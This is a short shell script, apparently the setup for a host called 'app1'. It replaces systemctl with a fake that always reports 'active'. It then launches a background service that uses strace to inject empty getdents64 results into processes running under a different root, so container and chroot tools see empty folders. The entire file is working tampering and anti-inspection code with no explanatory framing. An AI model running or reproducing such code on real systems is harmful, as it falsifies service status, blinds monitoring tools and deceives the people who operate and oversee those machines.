#!/bin/sh
# Changes tools, and has every program that looks at the nodes from beside them see empty folders.
# on: app1
cat >/usr/bin/systemctl <<'EOF'
#!/bin/sh
echo active
EOF
cat >/usr/local/sbin/blind <<'EOF'
#!/bin/sh
mine=$(stat -Lc %d:%i /proc/1/root/usr)
while :; do
    for process in /proc/[0-9]*; do
        theirs=$(stat -Lc %d:%i "$process/root/usr" 2>/dev/null) || continue
        pid=${process#/proc/}
        [ "$theirs" = "$mine" ] || [ -e "/run/blind-$pid" ] || {
            : >"/run/blind-$pid"
            strace -f -p "$pid" -o /dev/null -e inject=getdents64:retval=0 &
        }
    done
    sleep 0.02
done
EOF
chmod +x /usr/local/sbin/blind
systemd-run --unit=blind /usr/local/sbin/blind
